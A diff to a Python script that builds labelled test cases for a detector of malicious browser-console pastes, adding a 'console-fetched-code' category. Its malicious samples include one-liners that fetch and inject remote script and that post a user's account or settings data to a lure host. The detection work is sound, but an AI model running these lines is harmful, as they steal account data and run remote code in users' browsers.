@@ -53,6 +53,9 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
 - `comment-claims`: a download-and-run whose comment quotes a check page (reCAPTCHA, Turnstile,
   "я не робот") or claims to be a company's fix, update or scan: `malicious` from a stranger's
   page; a vendor's own installer with ordinary comments (platforms, what it updates): `info`;
+- `console-fetched-code`: a script element filled with fetched text, and an account's data read
+  from the site's own API and posted elsewhere: `malicious` in the console; reading the API,
+  or pinging a monitor after a health check: not flagged;
 - `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
   a real code: `flagged`.
 """
@@ -664,6 +667,34 @@ def comment_claim_cases() -> list[dict[str, str]]:
     return out
 
 
+def console_fetched_cases() -> list[dict[str, str]]:
+    h = LURE_HOSTS[2]
+    page = "https://giveaway-skins.example-promo.net/claim"
+    lures = [
+        f"let e=document.createElement('script');e.text=await (await fetch('https://{h}/s')).text();"
+        "document.head.appendChild(e)",
+        f"fetch('/api/v9/users/@me').then(r=>r.json()).then(u=>fetch('https://{h}/u',"
+        "{method:'POST',body:JSON.stringify(u)}))",
+        f"fetch('/account/settings').then(r=>r.text()).then(t=>fetch('https://{h}/a?d='+btoa(t)))",
+    ]
+    out = [
+        case(f"rt-console-fetched-{n}", text, "malicious", "T1059.007", "any", page,
+             "browser_console")
+        for n, text in enumerate(lures, start=1)
+    ]  # fmt: skip
+    benign = [
+        "fetch('/api/items').then(r => r.json()).then(console.table)",
+        "fetch('/api/health').then(r => r.ok && fetch('https://status.example-monitor.com/ping'))",
+        "const s = document.createElement('script'); s.src = '/static/app.js'; document.body.append(s)",
+    ]
+    out += [
+        case(f"rt-console-fetched-ok-{n}", text, "not_flagged", BENIGN, "any",
+             "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API", "browser_console")
+        for n, text in enumerate(benign, start=1)
+    ]  # fmt: skip
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         page_disguise_cases()
@@ -683,6 +714,7 @@ def build() -> list[dict[str, str]]:
         + source_cases()
         + rare_lolbin_cases()
         + comment_claim_cases()
+        + console_fetched_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
